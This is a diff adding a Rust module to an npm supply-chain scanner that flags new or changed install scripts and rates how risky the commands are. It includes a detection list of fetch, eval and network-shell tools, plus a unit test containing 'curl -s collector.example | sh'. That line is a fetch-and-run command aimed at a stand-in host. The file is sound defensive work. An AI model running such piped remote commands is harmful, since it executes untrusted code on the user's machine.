@@ -1,0 +1,431 @@
+//! `new-install-script`: something runs at install time that did not before.
+
+use weir_model::{Confidence, Contents, Evidence, Group, Severity};
+use weir_npm::manifest::Manifest;
+
+use crate::{
+    Declaration, Documentation, Input, Kind, Layer, Maturity, Observation, Stage, Subject,
+};
+
+pub(crate) static SIGNAL: Declaration = Declaration {
+    id: "new-install-script",
+    summary: "Code runs at install time that did not run in the previous release",
+    since: "0.1.0",
+    layer: Layer::History,
+    kind: Kind::Capability,
+    maturity: Maturity::Stable,
+    group: Group::Execution,
+    severity: Severity::Medium,
+    confidence: Confidence::High,
+    needs: &[Input::Manifest, Input::History, Input::Contents],
+    incidents: &[
+        "eslint-scope, 2018",
+        "rspack, 2024",
+        "nx, 2025",
+        "Shai-Hulud, 2025",
+        "SAP cap-js, 2026",
+    ],
+    documentation: Documentation {
+        sees: "A `preinstall`, `install` or `postinstall` script that the previous release of the same line \
+               did not have, or one that changed beyond version numbers. A `binding.gyp`, which npm compiles \
+               without being told to, counts as `install`. A first release with such a script is reported with \
+               less weight, and so is a command that only compiles or fetches native code.",
+        matters: "Install scripts run on every machine that installs the package, before anyone has looked at it, \
+                  with all of that machine's secrets. Most of the attacks on record added one to a package that \
+                  never had any.",
+        wrong: "Packages start to ship native code, usually with a new major version, and then need such a script.",
+        todo: "Read the command in the evidence and the file it runs. Install with scripts switched off until \
+               you have.",
+    },
+    observe,
+    #[cfg(any(test, feature = "samples"))]
+    samples,
+};
+
+/// What npm runs where there is a `binding.gyp` and no script of that kind; the registry writes it
+/// into the manifest as `scripts.install` when it notices.
+const IMPLICIT_COMMAND: &str = "node-gyp rebuild";
+
+/// A command that runs at install time.
+#[derive(Debug, Clone, Copy)]
+struct Step<'m> {
+    event: &'static str,
+    command: &'m str,
+    /// Only the file list says so; no manifest does.
+    implicit: bool,
+}
+
+/// What runs at install time, explicit or implicit.
+fn steps<'m>(manifest: &'m Manifest, contents: Option<&Contents>) -> Vec<Step<'m>> {
+    let mut steps: Vec<Step<'m>> = manifest
+        .install_scripts()
+        .map(|(event, command)| Step {
+            event,
+            command: command.trim(),
+            implicit: false,
+        })
+        .filter(|step| !step.command.is_empty())
+        .collect();
+    // npm compiles unless the package says itself what to do first.
+    let explicit = steps.iter().any(|step| step.event != "postinstall");
+    let in_tarball = contents.is_some_and(|contents| {
+        contents
+            .install_steps
+            .iter()
+            .any(|step| step.event == "binding.gyp")
+    });
+    let stated = manifest.gypfile == Some(true);
+    if !explicit && (stated || in_tarball) {
+        steps.push(Step {
+            event: "install",
+            command: IMPLICIT_COMMAND,
+            implicit: !stated,
+        });
+    }
+    steps
+}
+
+fn observe(subject: &Subject<'_>, observation: &mut Observation) {
+    let Ok(manifest) = subject.manifest() else {
+        return;
+    };
+    let current = steps(&manifest.manifest, subject.contents.known().copied());
+    if current.is_empty() || Input::History.missing(subject).is_some() {
+        return;
+    }
+    let Some((version, previous)) = subject.previous_manifest() else {
+        for step in current {
+            first_release(subject, step, observation);
+        }
+        return;
+    };
+    let before = steps(
+        &previous.manifest,
+        subject.previous_contents.known().copied(),
+    );
+    for step in current {
+        compare(subject, step, version, &before, observation);
+    }
+}
+
+fn first_release(subject: &Subject<'_>, step: Step<'_>, observation: &mut Observation) {
+    let mut finding = SIGNAL.finding(format!(
+        "the first release already runs code at install time: {} of {}@{} is `{}`",
+        step.event,
+        subject.name,
+        subject.version,
+        printable(step.command)
+    ));
+    finding.severity = match Nature::of(step.command) {
+        Nature::Builder => Severity::Info,
+        Nature::OwnScript => Severity::Low,
+        Nature::Inline => Severity::Medium,
+    };
+    finding.evidence.push(evidence(step, None));
+    observation.find(finding);
+}
+
+fn compare(
+    subject: &Subject<'_>,
+    step: Step<'_>,
+    version: &str,
+    before: &[Step<'_>],
+    observation: &mut Observation,
+) {
+    let same_event = before.iter().find(|old| old.event == step.event);
+    let nature = Nature::of(step.command);
+    let command = printable(step.command);
+    let (message, severity) = match same_event {
+        Some(old) if same_but_for_numbers(old.command, step.command) => return,
+        Some(old) => {
+            let was_builder = Nature::of(old.command) == Nature::Builder;
+            let severity = match nature {
+                Nature::Builder => Severity::Info,
+                Nature::OwnScript if !was_builder => Severity::Low,
+                Nature::OwnScript => Severity::Medium,
+                Nature::Inline => Severity::High,
+            };
+            (
+                format!(
+                    "{} changed since {version}: it is now `{command}`",
+                    step.event
+                ),
+                severity,
+            )
+        }
+        None if before.iter().any(|old| old.command == step.command) => (
+            format!("`{command}` moved to {} since {version}", step.event),
+            Severity::Low,
+        ),
+        None => (
+            format!(
+                "{} of {}@{} runs `{command}`; {version} had no such script",
+                step.event, subject.name, subject.version
+            ),
+            match nature {
+                Nature::Builder => Severity::Low,
+                Nature::OwnScript => SIGNAL.severity,
+                Nature::Inline => Severity::High,
+            },
+        ),
+    };
+    let mut finding = SIGNAL.finding(message);
+    finding.severity = severity;
+    // A previous tarball may have had the same binding.gyp, of which its manifest said nothing.
+    if step.implicit && subject.previous_contents.known().is_none() {
+        finding.confidence = Confidence::Low;
+        finding.message.push_str(match subject.previous_contents {
+            Stage::Pending => " in its manifest, and its tarball has not been looked at yet",
+            _ => " in its manifest, and its tarball is not known",
+        });
+    }
+    finding
+        .evidence
+        .push(evidence(step, same_event.map(|old| old.command)));
+    observation.find(finding);
+}
+
+fn evidence(step: Step<'_>, previous: Option<&str>) -> Evidence {
+    let field = if step.implicit {
+        "binding.gyp".to_owned()
+    } else {
+        format!("scripts.{}", step.event)
+    };
+    Evidence::change(field, previous, Some(step.command))
+}
+
+fn printable(command: &str) -> String {
+    weir_model::finding::printable(command, 120)
+}
+
+/// What kind of command it is.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Nature {
+    /// Compiles native code, or fetches it by a tool made for that.
+    Builder,
+    /// Runs something of the package.
+    OwnScript,
+    /// The command itself fetches or evaluates, or starts another runtime than the one that
+    /// installs: the text alone is enough to worry (INCIDENTS I25, I32, I45).
+    Inline,
+}
+
+/// Native builders in common use, by the first word of the command.
+const BUILDERS: &[&str] = &[
+    "node-gyp",
+    "node-gyp-build",
+    "node-gyp-build-optional-packages",
+    "node-pre-gyp",
+    "prebuild-install",
+    "cmake-js",
+    "napi-postinstall",
+    "pkg-prebuilds-verify",
+];
+
+/// Words that fetch, evaluate, or bring another runtime.
+const INLINE: &[&str] = &[
+    "curl",
+    "wget",
+    "powershell",
+    "pwsh",
+    "rundll32",
+    "mshta",
+    "certutil",
+    "bun",
+    "bunx",
+    "deno",
+    "npx",
+    "eval",
+    "base64",
+    "python",
+    "python3",
+    "perl",
+    "ruby",
+    "nc",
+];
+
+impl Nature {
+    fn of(command: &str) -> Self {
+        let words = || {
+            command
+                .split(|c: char| c.is_whitespace() || "|&;()<>\"'`$={}".contains(c))
+                .filter(|word| !word.is_empty())
+        };
+        let name = |word: &str| {
+            let file = word.rsplit(['/', '\\']).next().unwrap_or(word);
+            file.strip_suffix(".exe")
+                .unwrap_or(file)
+                .to_ascii_lowercase()
+        };
+        let starts_inline = |tool: &str| {
+            let mut rest = words().skip_while(|word| name(word) != tool);
+            rest.next().is_some()
+                && rest.take(3).any(|flag| {
+                    matches!(
+                        flag,
+                        "-e" | "-c" | "-p" | "-pe" | "/c" | "--eval" | "--print" | "-r"
+                    )
+                })
+        };
+        if words().any(|word| INLINE.contains(&name(word).as_str()) || word.contains("://"))
+            || ["node", "sh", "bash", "zsh", "cmd"]
+                .into_iter()
+                .any(starts_inline)
+        {
+            return Self::Inline;
+        }
+        // Every command of a list has to be a builder: `prebuild-install || node-gyp rebuild`.
+        let all_builders = command
+            .split(['|', '&', ';'])
+            .filter_map(|part| part.split_whitespace().next())
+            .all(|word| BUILDERS.contains(&name(word).as_str()));
+        if all_builders {
+            Self::Builder
+        } else {
+            Self::OwnScript
+        }
+    }
+}
+
+/// Whether two commands differ in numbers at most, as when a version is spelled out. Commands that
+/// contain an address are compared as they are: an address may be all numbers.
+fn same_but_for_numbers(old: &str, new: &str) -> bool {
+    old == new || (!new.contains("://") && without_numbers(old) == without_numbers(new))
+}
+
+/// The command with each run of digits, and of dots between them, replaced by one mark.
+fn without_numbers(command: &str) -> String {
+    let mut out = String::with_capacity(command.len());
+    let mut characters = command.chars().peekable();
+    while let Some(character) = characters.next() {
+        if !character.is_ascii_digit() {
+            out.push(character);
+            continue;
+        }
+        while characters
+            .next_if(|c| c.is_ascii_digit() || *c == '.')
+            .is_some()
+        {}
+        out.push('#');
+    }
+    out
+}
+
+#[cfg(any(test, feature = "samples"))]
+fn samples() -> Vec<crate::sample::Sample> {
+    use crate::sample::{Sample, Scene, step};
+    let pair = |before, after| {
+        Scene::of("left-lib", "1.4.1")
+            .release("1.4.0", "2025-03-01T09:00:00Z", before)
+            .release("1.4.1", "2026-06-01T09:00:00Z", after)
+    };
+    let compiles = || Contents {
+        install_steps: vec![step("binding.gyp", IMPLICIT_COMMAND, &["binding.gyp"])],
+        ..Contents::default()
+    };
+    vec![
+        Sample::flagged(
+            "A patch release adds a postinstall script to a package that never had one",
+            pair("{}", r#"{"scripts":{"postinstall":"node setup.js"}}"#),
+        ),
+        Sample::flagged(
+            "A preinstall that fetches another runtime",
+            pair(
+                r#"{"scripts":{"test":"node test"}}"#,
+                r#"{"scripts":{"test":"node test","preinstall":"bun run setup.mjs"}}"#,
+            ),
+        ),
+        Sample::flagged(
+            "A binding.gyp appears that neither manifest mentions",
+            pair("{}", "{}").contents(compiles()),
+        ),
+        Sample::flagged(
+            "A native build that becomes a script of its own",
+            pair(
+                r#"{"scripts":{"install":"node-gyp rebuild"}}"#,
+                r#"{"scripts":{"install":"node lib/build.js"}}"#,
+            ),
+        ),
+        Sample::flagged(
+            "The very first release runs a script",
+            Scene::of("left-lib", "1.0.0").release(
+                "1.0.0",
+                "2026-06-01T09:00:00Z",
+                r#"{"scripts":{"postinstall":"node setup.js"}}"#,
+            ),
+        ),
+        Sample::flagged(
+            "The release before it had the same script, and was refused",
+            Scene::of("left-lib", "1.4.1")
+                .release("1.3.9", "2025-03-01T09:00:00Z", "{}")
+                .release(
+                    "1.4.0",
+                    "2026-05-31T09:00:00Z",
+                    r#"{"scripts":{"postinstall":"node setup.js"}}"#,
+                )
+                .release(
+                    "1.4.1",
+                    "2026-06-01T09:00:00Z",
+                    r#"{"scripts":{"postinstall":"node setup.js"}}"#,
+                )
+                .refused("1.4.0"),
+        ),
+        Sample::passing(
+            "Near miss: a script that has been there for years, with another version in it",
+            pair(
+                r#"{"scripts":{"postinstall":"node install.js --binary v1.4.0"}}"#,
+                r#"{"scripts":{"postinstall":"node install.js --binary v1.4.1"}}"#,
+            ),
+        ),
+        Sample::passing(
+            "The registry begins to spell out the native build that was always there",
+            pair(
+                r#"{"gypfile":true}"#,
+                r#"{"gypfile":true,"scripts":{"install":"node-gyp rebuild"}}"#,
+            ),
+        ),
+        Sample::passing(
+            "A binding.gyp that the previous tarball had too",
+            pair("{}", "{}")
+                .contents(compiles())
+                .previous_contents(compiles()),
+        ),
+        Sample::passing(
+            "A prepare script, which does not run for packages from a registry",
+            pair("{}", r#"{"scripts":{"prepare":"tsc"}}"#),
+        ),
+    ]
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn commands_are_told_apart_by_what_they_do() {
+        for (command, nature) in [
+            ("node-gyp rebuild", Nature::Builder),
+            ("prebuild-install || node-gyp rebuild", Nature::Builder),
+            ("node-gyp-build", Nature::Builder),
+            ("node install.js", Nature::OwnScript),
+            ("node-gyp rebuild && node setup.js", Nature::OwnScript),
+            ("node -e \"require('./x')\"", Nature::Inline),
+            ("curl -s collector.example | sh", Nature::Inline),
+            ("bun run index.js", Nature::Inline),
+            ("bash -c ./x.sh", Nature::Inline),
+            ("sh ./build.sh", Nature::OwnScript),
+        ] {
+            assert_eq!(Nature::of(command), nature, "{command}");
+        }
+    }
+
+    #[test]
+    fn only_numbers_may_change_unnoticed() {
+        assert!(same_but_for_numbers("get v1.2.3", "get v1.10.0"));
+        assert!(!same_but_for_numbers("node install.js", "node install2.js"));
+        assert!(!same_but_for_numbers(
+            "get http://192.0.2.1/",
+            "get http://192.0.2.7/"
+        ));
+    }
+}
